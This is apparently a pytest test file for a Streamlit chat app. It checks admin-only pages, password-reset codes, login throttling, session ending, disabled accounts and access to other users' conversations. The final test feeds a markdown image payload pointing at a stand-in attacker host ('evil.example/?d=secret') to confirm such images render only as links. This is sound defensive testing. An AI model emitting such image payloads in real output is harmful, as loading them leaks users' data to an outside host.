"""Pages: the admin page only for admins, reset-code redemption and throttling on the
login page, a foreign conversation id in the URL."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from streamlit.testing.v1 import AppTest

from chat.services import Services
from tests.pages.conftest import fields_by_label, log_in
from tests.support.factories import PASSWORD, chat_turn, make_user


def _links(app: AppTest) -> list[str]:
    return [link.label for link in app.get("page_link")]


def test_admin_page_is_listed_only_for_admins(
    signed_in: Callable[..., AppTest], app_services: Services
) -> None:
    app = signed_in()
    assert "Administration" not in _links(app)
    assert "Your sessions" in _links(app)
    admin = make_user(app_services, role="admin")
    app = signed_in(username=admin.username)
    assert "Administration" in _links(app)
    app.switch_page("pages/admin.py").run()
    assert not app.exception
    assert app.title[0].value == "Administration"
    # the column, not the printed table: pandas prints a long one with rows elided
    assert any(admin.username in list(frame.value["username"]) for frame in app.dataframe)


def test_a_regular_user_cannot_open_the_admin_page(
    signed_in: Callable[..., AppTest],
) -> None:
    """The page is not registered for them at all, so no URL reaches it."""
    app = signed_in()
    with pytest.raises(ValueError, match="Could not find a navigation page"):
        app.switch_page("pages/admin.py")


def test_a_typed_reset_code_sets_a_new_password_and_a_link_is_never_read(
    new_app: Callable[..., AppTest], app_services: Services
) -> None:
    admin, user = make_user(app_services, role="admin"), make_user(app_services)
    code = app_services.admin.issue_reset(actor=admin, user_id=user.id).code
    app = new_app({"reset": code})  # an old-style link: the code is not taken from it
    assert "reset" not in app.query_params
    fields = fields_by_label(app)
    assert fields["Reset code"][0].value == ""
    fields["Reset code"][0].input(code)
    fields["New password"][0].input("my fresh passphrase")
    fields["Repeat new password"][0].input("my fresh passphrase")
    next(b for b in app.button if b.label == "Set new password").click()
    app.run()
    assert [s.value for s in app.success] == [
        f"Password changed for {user.username}. Log in with it now."
    ]
    app = log_in(new_app(), user.username, "my fresh passphrase")
    assert any(button.label == "New chat" for button in app.button)


def test_login_page_says_when_an_account_is_throttled(
    new_app: Callable[..., AppTest], app_services: Services
) -> None:
    user = make_user(app_services)
    for _ in range(app_services.settings.login_failures_per_account):
        app_services.accounts.authenticate(username=user.username, password="wrong", client="local")
    app = log_in(new_app(), user.username, PASSWORD)  # the same client: AppTest is "local"
    assert any("Too many failed attempts" in e.value for e in app.error)
    assert not any(button.label == "New chat" for button in app.button)


def test_a_foreign_conversation_in_the_url_is_not_found(
    signed_in: Callable[..., AppTest], app_services: Services
) -> None:
    owner = make_user(app_services)
    conversation, _ = chat_turn(app_services, owner, "owner's private words")
    app = signed_in({"c": str(conversation)})
    assert [e.value for e in app.error] == ["Conversation not found."]
    assert not any("private words" in str(m.value) for m in app.markdown)


def test_log_out_ends_this_session_and_draws_no_cookie_component_on_the_chat_page(
    signed_in: Callable[..., AppTest], app_services: Services
) -> None:
    """A cookie component reports to the server when it mounts, which reruns the page and
    cut an answer streaming on the chat page short: the chat page has none, logout included."""
    app = signed_in()
    assert any(button.label == "New chat" for button in app.button)
    assert app.get("component_instance") == []
    username, login_at = app.session_state["username"], app.session_state["_auth_login_at"]
    session_id = app.session_state["_auth_session_id"]
    live = {"username": username, "session_id": session_id, "issued_at": login_at}
    assert app_services.browser_sessions.check(**live)

    next(button for button in app.button if button.label == "Log out").click()
    app.run()

    assert any(button.label == "Log in" for button in app.button)
    assert app_services.browser_sessions.check(**live) is None


def test_sessions_page_lists_browsers_and_ends_any_one(
    new_app: Callable[..., AppTest], app_services: Services
) -> None:
    user = make_user(app_services)
    other = log_in(new_app(), user.username)  # another browser
    app = log_in(new_app(), user.username)
    app.switch_page("pages/sessions.py").run()
    assert len([b for b in app.button if b.key and b.key.startswith("end-session-")]) == 2
    other_id = other.session_state["_auth_session_id"]
    app.button(key=f"end-session-{other_id}").click().run()
    other.run()  # its next interaction
    assert any(button.label == "Log in" for button in other.button)
    app.run()
    assert not any(button.label == "Log in" for button in app.button)


def test_an_admin_ends_a_users_sessions(
    new_app: Callable[..., AppTest], signed_in: Callable[..., AppTest], app_services: Services
) -> None:
    user = make_user(app_services)
    victim = log_in(new_app(), user.username)
    admin = make_user(app_services, role="admin")
    app = signed_in(username=admin.username)
    app.switch_page("pages/admin.py").run()
    app.selectbox(key="admin-user").select(user.username).run()
    app.button(key="admin-end-sessions").click().run()
    assert any("signed out everywhere" in s.value for s in app.success)
    victim.run()
    assert any(button.label == "Log in" for button in victim.button)


def test_a_disabled_user_is_told_so_only_after_the_right_password(
    new_app: Callable[..., AppTest], app_services: Services
) -> None:
    admin = make_user(app_services, role="admin")
    user = make_user(app_services)
    app_services.admin.set_disabled(actor=admin, user_id=user.id, disabled=True)
    wrong = log_in(new_app(), user.username, "not the password")
    assert not any("disabled" in e.value for e in wrong.error)
    right = log_in(new_app(), user.username, PASSWORD)
    assert any("This account is disabled" in e.value for e in right.error)


def test_an_admin_unlocks_an_account_from_the_admin_page(
    signed_in: Callable[..., AppTest], app_services: Services
) -> None:
    admin = make_user(app_services, role="admin")
    user = make_user(app_services)
    for _ in range(app_services.settings.login_failures_per_account):
        app_services.accounts.authenticate(username=user.username, password="wrong", client="x")
    app = signed_in(username=admin.username)
    app.switch_page("pages/admin.py").run()
    app.selectbox(key="admin-user").select(user.username).run()
    app.button(key="admin-unlock").click().run()
    assert any("can sign in again" in s.value for s in app.success)
    assert app_services.accounts.authenticate(username=user.username, password=PASSWORD, client="x")


def test_images_in_messages_are_drawn_as_links_with_a_note(
    signed_in: Callable[..., AppTest],
) -> None:
    app = signed_in()
    app.chat_input[0].set_value("see ![x](https://evil.example/?d=secret) here").run()
    shown = [m.value for m in app.markdown]
    assert any("(https://evil.example/?d=secret)" in value for value in shown)
    assert not any("![" in value for value in shown)
    assert any("shown as links" in caption.value for caption in app.caption)
